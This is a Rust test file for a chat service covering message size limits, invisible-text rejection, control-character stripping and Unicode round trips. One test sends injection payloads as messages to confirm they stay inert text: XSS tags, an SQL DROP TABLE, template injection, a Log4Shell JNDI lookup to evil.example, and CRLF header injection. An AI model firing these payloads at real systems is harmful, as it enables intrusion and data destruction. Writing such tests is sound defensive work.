//! What people, and others, write.

use serde_json::json;

use super::{Neighbour, shop};
use crate::harness::PATIENCE;
use crate::harness::people::{auth, bare_chat, come_back, conversation, refused, visitor};

#[tokio::test]
async fn a_text_over_the_limit_is_refused_and_one_at_the_limit_is_not() {
    let shop = shop().await;
    let neighbour = Neighbour::of(shop).await;
    let client = bare_chat(shop.url(), &auth(&neighbour.inbox.key)).await;
    let send = async |client_id: &str, text: String| {
        client.call("send", &json!({"client_id": client_id, "text": text}), PATIENCE).await.unwrap()
    };
    for (client_id, letter) in [("plain", "a"), ("umlaut", "ü"), ("rope", "🪢")] {
        let answer = send(client_id, letter.repeat(8_000)).await;
        assert!(answer["seq"].is_u64(), "8000 characters are 8000 characters, however many bytes: {answer}");
        let answer = send(&format!("{client_id}+"), letter.repeat(8_001)).await;
        assert_eq!(refused(&answer), "too_large");
    }
    neighbour.is_well().await;
}

#[tokio::test]
async fn a_text_in_which_nothing_can_be_seen_is_refused() {
    let shop = shop().await;
    let neighbour = Neighbour::of(shop).await;
    let client = bare_chat(shop.url(), &auth(&neighbour.inbox.key)).await;
    for text in ["", " ", "\n\t\r\n", "\u{0}", "\u{200b}\u{200b}", "\u{202e}", "\u{feff}", "\u{ad}"] {
        let answer = client.call("send", &json!({"client_id": "blank", "text": text}), PATIENCE).await.unwrap();
        assert_eq!(refused(&answer), "invalid", "{text:?}");
    }
}

#[tokio::test]
async fn a_script_in_a_text_stays_text() {
    let shop = shop().await;
    let inbox = shop.scripted().await;
    let peer = visitor(shop.url(), &inbox.key).await;
    let texts = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "'; DROP TABLE message; --",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}",
        "%00%0d%0aSet-Cookie: a=b",
    ];
    for (number, text) in texts.iter().enumerate() {
        peer.send(&format!("x{number}"), text).await.unwrap();
    }
    let answer = shop.api.get(&format!("/api/v1/conversations/{}/messages", conversation(&peer))).await;
    assert_eq!(answer.header("content-type"), Some("application/json"));
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    let back = come_back(shop.url(), &inbox.key, &peer, 0).await;
    for text in texts {
        assert!(back.ready().messages.iter().any(|message| message.text == text), "{text}");
    }
}

#[tokio::test]
async fn control_signs_and_overrides_are_taken_out_of_a_text() {
    let shop = shop().await;
    let inbox = shop.scripted().await;
    let peer = visitor(shop.url(), &inbox.key).await;
    let sent = peer.send("c", "one\u{0}\u{7}\u{1b}[31m two\r\nthree \u{202e}four").await.unwrap();
    let stored = shop.api.messages(&conversation(&peer)).await;
    let message = stored.iter().find(|message| message["id"] == sent.id.as_str()).unwrap();
    assert_eq!(message["text"], "one[31m two\nthree four");
}

#[tokio::test]
async fn odd_letters_survive_the_way_there_and_back() {
    let shop = shop().await;
    let inbox = shop.scripted().await;
    let peer = visitor(shop.url(), &inbox.key).await;
    let text = "Zażółć gęślą jaźń, 漢字, العربية, e\u{301}, 👩‍👩‍👧, \u{10ffff}, \"quotes\" \\ and / slashes\ttab\nline";
    peer.send("o", text).await.unwrap();
    let back = come_back(shop.url(), &inbox.key, &peer, 0).await;
    assert!(back.ready().messages.iter().any(|message| message.text == text));
}
